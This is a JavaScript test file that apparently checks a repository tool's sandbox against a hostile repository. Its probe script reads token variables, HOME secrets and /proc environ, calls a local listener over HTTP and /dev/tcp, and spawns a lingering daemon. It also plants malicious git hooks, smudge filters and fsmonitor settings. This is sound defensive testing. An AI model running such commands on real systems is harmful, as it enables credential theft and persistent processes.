// A repository whose build, tests or hooks try to read HOME, the network or a token gets nothing,
// and a test that forks a daemon leaves no process.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { test } from 'node:test';

import { git, makeRepo, makeWorld, manyRecipes, pawl, runFolders, startPawl } from './lib.mjs';

const canary = 'pawl-canary-5f1e9c2d7b';

// What the code of the repository tries, written in shell: everything it finds goes to `loot`,
// which is part of its own output and of files beside it.
function probe(world, port) {
  return `#!/bin/sh
echo "loot: token=[$PAWL_TEST_TOKEN$GITHUB_TOKEN$LM_STUDIO_API_KEY]"
cat "${world.home}/secret.txt" 2>/dev/null && echo "loot: home"
cat "$HOME/secret.txt" 2>/dev/null && echo "loot: HOME"
cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a "${canary}" && echo "loot: environ"
if command -v node >/dev/null 2>&1; then
  node -e "require('http').get('http://127.0.0.1:${port}/stolen').on('error',()=>{})" 2>/dev/null
fi
(exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null
touch "${world.folder}/escaped" 2>/dev/null
echo scribble > scribbled-by-the-build
setsid sh -c 'echo daemon-${canary} > /dev/null; while :; do sleep 1; done # ${canary}' >/dev/null 2>&1 &
exit 0
`;
}

function processesWith(text) {
  return fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name)).filter((pid) => {
    try {
      return fs.readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes(text) && Number(pid) !== process.pid;
    } catch {
      return false;
    }
  });
}

function everyFileBelow(folder, look) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const full = path.join(folder, entry.name);
    if (entry.isDirectory()) everyFileBelow(full, look);
    else if (entry.isFile()) look(full);
  }
}

test('code of the target gets neither HOME, network nor tokens, and leaves nothing behind', async () => {
  const world = makeWorld();
  world.env.PAWL_RECIPES_ENABLED = manyRecipes;
  let visits = 0;
  const server = http.createServer((_, response) => { visits += 1; response.end(); });
  await new Promise((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  const { port } = server.address();
  try {
    fs.writeFileSync(path.join(world.home, 'secret.txt'), `${canary}\n`);
    Object.assign(world.env, { PAWL_TEST_TOKEN: canary, GITHUB_TOKEN: canary, LM_STUDIO_API_KEY: canary });
    const script = { text: probe(world, port), mode: 0o755 };
    const repo = makeRepo(world, {
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', license: 'MIT', author: 'Ada',
        scripts: { test: 'sh ./probe.sh' } }),
      'Makefile': 'all:\n\tsh ./probe.sh\n\ncheck:\n\tsh ./probe.sh\n',
      'probe.sh': script,
    });
    const hooks = path.join(repo, '.git', 'hooks');
    fs.mkdirSync(hooks, { recursive: true });
    for (const hook of ['post-checkout', 'pre-commit', 'post-commit', 'pre-push', 'reference-transaction',
      'pre-receive', 'update', 'post-receive', 'post-update', 'post-merge', 'commit-msg']) {
      fs.writeFileSync(path.join(hooks, hook), `#!/bin/sh\ntouch ${world.folder}/hook-${hook}\n`, { mode: 0o755 });
    }
    git(repo, 'config', 'core.fsmonitor', `touch ${world.folder}/hook-fsmonitor`);
    git(repo, 'config', 'filter.evil.smudge', `touch ${world.folder}/hook-smudge`);
    git(repo, 'config', 'diff.external', `touch ${world.folder}/hook-diff`);
    for (const name of fs.readdirSync(world.folder).filter((each) => each.startsWith('hook-'))) {
      fs.rmSync(path.join(world.folder, name));
    }
    // Not pawl(): that one would block this process, and the server could not answer a caller.
    const done = await startPawl(world, ['run', repo, '--yes']).ended;
    assert.ok([0, 7].includes(done.code), done.err);
    const refused = pawl(world, ['pr', 'merge', '1', repo]);
    assert.equal(refused.code, 4, 'a checkout that wants a program for its files is left alone');
    assert.match(refused.err, /filter\.evil\.smudge/);
    git(repo, 'config', '--unset', 'filter.evil.smudge');
    const merged = pawl(world, ['pr', 'merge', '1', repo]);
    assert.equal(merged.code, 0, merged.err);

    assert.equal(visits, 0, 'nobody reached the network');
    assert.ok(!fs.existsSync(path.join(world.folder, 'escaped')));
    const fired = fs.readdirSync(world.folder).filter((name) => name.startsWith('hook-'));
    assert.deepEqual(fired, [], 'no hook, filter or monitor of the target ran');
    assert.deepEqual(processesWith(canary), [], 'no process is left');
    assert.ok(!fs.existsSync(path.join(repo, 'scribbled-by-the-build')));
    assert.ok(!(done.out + done.err).includes(canary));
    everyFileBelow(world.env.PAWL_HOME, (file) => {
      const text = fs.readFileSync(file, 'latin1');
      assert.ok(!text.includes(canary), file);
      assert.doesNotMatch(text, /loot: (home|HOME|environ|token=\[[^\]]+\])/, file);
    });
    const events = fs.readFileSync(path.join(runFolders(world)[0], 'events.jsonl'), 'utf8');
    assert.match(events, /"sandbox\.level"/);
  } finally {
    server.close();
    for (const pid of processesWith(canary)) process.kill(Number(pid), 'SIGKILL');
    world.remove();
  }
});
